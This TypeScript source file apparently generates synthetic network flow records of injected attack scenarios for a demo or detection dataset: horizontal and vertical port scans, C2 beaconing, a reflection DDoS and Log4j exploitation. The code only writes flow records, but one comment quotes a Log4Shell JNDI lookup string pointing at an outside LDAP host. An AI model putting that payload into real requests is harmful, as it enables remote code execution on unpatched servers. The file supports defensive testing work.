// The flows of the injected attacks, drawn from their ground truth (demo-scenarios.ts) so that
// what the docs and tests promise is exactly what the generator writes.

import type { FlowRecord } from '../core/columns.js';
import { parseCidr } from '../core/ip.js';
import { HOSTING_NETWORKS, RESIDENTIAL_NETWORKS, demoIp, type ExternalNetwork } from './demo-network.js';
import type { BeaconTruth, C2ContactsTruth, DdosTruth, DemoScenarios, HorizontalScanTruth, Log4jTruth, VerticalScanTruth } from './demo-scenarios.js';
import {
  ACK,
  END_ACTIVE,
  END_FIN,
  END_IDLE,
  FIN,
  PSH,
  RST,
  SYN,
  TCP,
  UDP,
  externalEndpoint,
  internalEndpoint,
  internalV4,
  type Endpoint,
  type FlowFactory,
  type FlowSource,
} from './flow-factory.js';
import type { SeededRandom } from './seeded-random.js';

function gcd(a: number, b: number): number {
  while (b) [a, b] = [b, a % b];
  return a;
}

/**
 * Probes (address, port) pairs in a pseudo-random order, as masscan does: i -> (i*A + C) mod M is
 * a bijection when A is coprime with M, so every pair is probed exactly once per sweep.
 */
class HorizontalScan implements FlowSource {
  private sweep = 0;
  private i = 0;
  private sport = 0;
  private offset = 0;
  private readonly scanner: Endpoint;
  private readonly base: number;
  private readonly pairs: number;
  private readonly multiplier: number;
  private readonly intervalMs: number;

  constructor(private readonly truth: HorizontalScanTruth, private readonly random: SeededRandom, private readonly flows: FlowFactory) {
    this.scanner = externalEndpoint(demoIp(truth.scanner), truth.scannerAsn);
    this.base = parseCidr(truth.targets)!.first as number;
    this.pairs = truth.addressesPerSweep * truth.ports.length;
    let a = 40_503;
    while (gcd(a, this.pairs) !== 1) a += 2;
    this.multiplier = a;
    this.intervalMs = 1000 / truth.probesPerSecond;
    this.startSweep();
  }

  private startSweep(): void {
    this.i = 0;
    // Scanners like masscan keep one source port per run.
    this.sport = this.random.between(32768, 61000);
    this.offset = this.random.int(this.pairs);
  }

  emit(_from: number, to: number, out: FlowRecord[]): void {
    const { windows, ports, probe } = this.truth;
    while (this.sweep < windows.length) {
      const t = windows[this.sweep]!.start + Math.floor(this.i * this.intervalMs);
      if (t >= to) return;
      const q = (this.i * this.multiplier + this.offset) % this.pairs;
      const k = Math.floor(q / ports.length);
      // An odd multiplier modulo 2^16 spreads the k-th address over the whole /16 without repeats.
      const target = internalV4(this.base + ((k * 40_503) & 0xffff));
      const start = t + this.random.int(Math.max(1, Math.floor(this.intervalMs / 2)));
      out.push(this.flows.flow(start, start, this.scanner, target, this.sport, ports[q % ports.length]!, TCP, probe.tcpFlags, probe.packets, probe.bytes, END_IDLE));
      if (++this.i >= this.pairs) {
        this.sweep++;
        this.startSweep();
      }
    }
  }
}

/** An nmap-style SYN scan of one host: ports in random order; open ports answer and get reset. */
class VerticalScan implements FlowSource {
  private sweep = 0;
  private i = 0;
  private sport = 0;
  private order: number[] = [];
  private readonly scanner: Endpoint;
  private readonly target: Endpoint;
  private readonly open: Set<number>;

  constructor(private readonly truth: VerticalScanTruth, private readonly random: SeededRandom, private readonly flows: FlowFactory) {
    this.scanner = externalEndpoint(demoIp(truth.scanner), truth.scannerAsn);
    this.target = internalEndpoint(truth.target);
    this.open = new Set(truth.openPorts);
    this.startSweep();
  }

  private startSweep(): void {
    this.i = 0;
    this.sport = this.random.between(32768, 61000);
    this.order = [...this.truth.ports];
    for (let j = this.order.length - 1; j > 0; j--) {
      const k = this.random.int(j + 1);
      [this.order[j], this.order[k]] = [this.order[k]!, this.order[j]!];
    }
  }

  emit(_from: number, to: number, out: FlowRecord[]): void {
    const { windows, probesPerSecond } = this.truth;
    const f = this.flows;
    while (this.sweep < windows.length) {
      const t = windows[this.sweep]!.start + Math.floor((this.i * 1000) / probesPerSecond) + this.random.int(10);
      if (t >= to) return;
      const port = this.order[this.i]!;
      if (this.open.has(port)) {
        const rtt = this.random.between(20, 60);
        const reply = t + (rtt >>> 1);
        out.push(f.flow(t, t + rtt, this.scanner, this.target, this.sport, port, TCP, SYN | RST, 2, 84, END_FIN));
        out.push(f.flow(reply, reply, this.target, this.scanner, port, this.sport, TCP, SYN | ACK, 1, 44, END_IDLE));
      } else {
        // Closed ports stay silent: the host firewall drops the SYN.
        out.push(f.flow(t, t, this.scanner, this.target, this.sport, port, TCP, SYN, 1, 44, END_IDLE));
      }
      if (++this.i >= this.order.length) {
        this.sweep++;
        this.startSweep();
      }
    }
  }
}

/** A C2 implant's check-in: one short TLS connection a minute, the same size every time. */
class Beacon implements FlowSource {
  private next: number;
  private sport: number;
  private readonly host: Endpoint;
  private readonly c2: Endpoint;

  constructor(private readonly truth: BeaconTruth, private readonly end: number, private readonly random: SeededRandom, private readonly flows: FlowFactory) {
    this.host = internalEndpoint(truth.host);
    this.c2 = externalEndpoint(demoIp(truth.c2), truth.c2Asn);
    this.next = truth.firstBeat;
    this.sport = random.between(49152, 60000);
  }

  emit(_from: number, to: number, out: FlowRecord[]): void {
    const { bytesOut, bytesIn, port, intervalMs, jitterMs } = this.truth;
    const r = this.random;
    const flags = SYN | ACK | PSH | FIN;
    while (this.next < to && this.next < this.end) {
      const t = this.next;
      const duration = r.between(250, 600);
      const rtt = r.between(30, 45);
      out.push(this.flows.flow(t, t + duration, this.host, this.c2, this.sport, port, TCP, flags, bytesOut.packets, r.between(bytesOut.min, bytesOut.max), END_FIN));
      out.push(this.flows.flow(t + rtt, t + duration - 1, this.c2, this.host, port, this.sport, TCP, flags, bytesIn.packets, r.between(bytesIn.min, bytesIn.max), END_FIN));
      // Windows hands out ephemeral ports in sequence; other software takes a few in between.
      this.sport += r.between(1, 4);
      if (this.sport > 65535) this.sport = 49152;
      this.next += intervalMs + r.between(-jitterMs, jitterMs);
    }
  }
}

interface Reflector {
  readonly endpoint: Endpoint;
  readonly sport: number;
  readonly dport: number;
  readonly packetBytes: number;
  /** Packets per second at full intensity. */
  readonly rate: number;
}

/** A reflection flood: every reflector exports one flow a minute (the routers' active timeout). */
class Ddos implements FlowSource {
  private minute = 0;
  private readonly reflectors: Reflector[] = [];
  private readonly victim: Endpoint;

  constructor(private readonly truth: DdosTruth, private readonly random: SeededRandom, private readonly flows: FlowFactory) {
    this.victim = internalEndpoint(truth.victim);
    // Open NTP and DNS servers sit in hosting networks and consumer ISPs alike.
    const networks: readonly ExternalNetwork[] = [...HOSTING_NETWORKS, ...RESIDENTIAL_NETWORKS];
    const seen = new Set<number>();
    for (const g of truth.groups) {
      for (let n = 0; n < g.reflectors; ) {
        const net = random.pick(networks);
        const range = parseCidr(random.pick(net.v4))!;
        const ip = (range.first as number) + random.int((range.last as number) - (range.first as number) + 1);
        if (seen.has(ip)) continue;
        seen.add(ip);
        // Log-normal with mean 1 (median e^(-sigma^2/2)): some reflectors amplify far more than others.
        const strength = random.logNormal(Math.exp(-0.32), 0.8);
        this.reflectors.push({ endpoint: externalEndpoint(ip, net.asn), sport: g.sourcePort, dport: random.between(1024, 65535), packetBytes: g.packetBytes, rate: g.packetsPerSecond * strength });
        n++;
      }
    }
  }

  emit(_from: number, to: number, out: FlowRecord[]): void {
    const { window, minuteProfile } = this.truth;
    const r = this.random;
    while (this.minute < minuteProfile.length) {
      const minuteStart = window.start + this.minute * 60_000;
      if (minuteStart >= to) return;
      const level = minuteProfile[this.minute]!;
      const last = this.minute === minuteProfile.length - 1;
      for (const refl of this.reflectors) {
        const packets = Math.max(1, Math.round(refl.rate * 60 * level * r.logNormal(Math.exp(-0.01125), 0.15)));
        const start = minuteStart + r.int(1_500);
        out.push(this.flows.flow(start, minuteStart + r.between(58_500, 59_999), refl.endpoint, this.victim, refl.sport, refl.dport, UDP, 0, packets, packets * refl.packetBytes, last ? END_IDLE : END_ACTIVE));
      }
      this.minute++;
    }
  }
}

/** A TCP connection at a fixed time, with the flows built when its slot comes. */
interface Scheduled {
  readonly time: number;
  build(out: FlowRecord[]): void;
}

/** Emits a list of scheduled connections in time order. */
class ScheduledConnections implements FlowSource {
  private i = 0;
  constructor(private readonly items: Scheduled[]) {
    items.sort((a, b) => a.time - b.time);
  }
  emit(_from: number, to: number, out: FlowRecord[]): void {
    while (this.i < this.items.length && this.items[this.i]!.time < to) this.items[this.i++]!.build(out);
  }
}

function c2Contacts(truth: C2ContactsTruth, random: SeededRandom, flows: FlowFactory): ScheduledConnections {
  const c2 = externalEndpoint(demoIp(truth.c2), truth.c2Asn);
  const items: Scheduled[] = [];
  for (const session of truth.sessions) {
    const host = internalEndpoint(session.host);
    session.times.forEach((time, n) =>
      items.push({
        time,
        build: (out) => {
          // The first contact fetches the implant's next stage; later ones are small check-ins.
          const response = n === 0 ? random.between(150_000, 220_000) : Math.round(random.logNormal(3_000, 0.8));
          flows.tcp(out, time, random.between(300, 3_000), host, c2, random.between(49152, 65535), truth.port, Math.round(random.logNormal(700, 0.3)), response, random.between(30, 60));
        },
      }),
    );
  }
  return new ScheduledConnections(items);
}

function log4j(truth: Log4jTruth, random: SeededRandom, flows: FlowFactory): ScheduledConnections {
  const scanner = externalEndpoint(demoIp(truth.scanner), truth.scannerAsn);
  const web = internalEndpoint(truth.target);
  const items: Scheduled[] = [];
  for (const probe of truth.probes) {
    items.push({
      time: probe.time,
      // A GET with ${jndi:ldap://45.155.205.233:1389/...} in User-Agent and other headers.
      build: (out) => flows.tcp(out, probe.time, random.between(150, 400), scanner, web, random.between(32768, 60999), probe.port, random.between(600, 720), random.between(400, 1_800), random.between(20, 40)),
    });
  }
  for (const callback of truth.callbacks) {
    items.push({
      time: callback.time,
      // The JVM's LDAP lookup: a bind and search out, a referral to the payload back.
      build: (out) => flows.tcp(out, callback.time, random.between(200, 600), web, scanner, random.between(32768, 60999), callback.port, random.between(110, 140), random.between(380, 460), random.between(20, 40)),
    });
  }
  return new ScheduledConnections(items);
}

/** One flow source per injected scenario; each draws from its own stream of `random`. */
export function scenarioSources(truth: DemoScenarios, random: SeededRandom, flows: FlowFactory): FlowSource[] {
  return [
    new HorizontalScan(truth.horizontalScan, random.fork('horizontal-scan'), flows),
    new VerticalScan(truth.verticalScan, random.fork('vertical-scan'), flows),
    new Beacon(truth.beacon, truth.range.end, random.fork('beacon'), flows),
    new Ddos(truth.ddos, random.fork('ddos'), flows),
    c2Contacts(truth.c2Contacts, random.fork('c2-contacts'), flows),
    log4j(truth.log4j, random.fork('log4j'), flows),
  ];
}
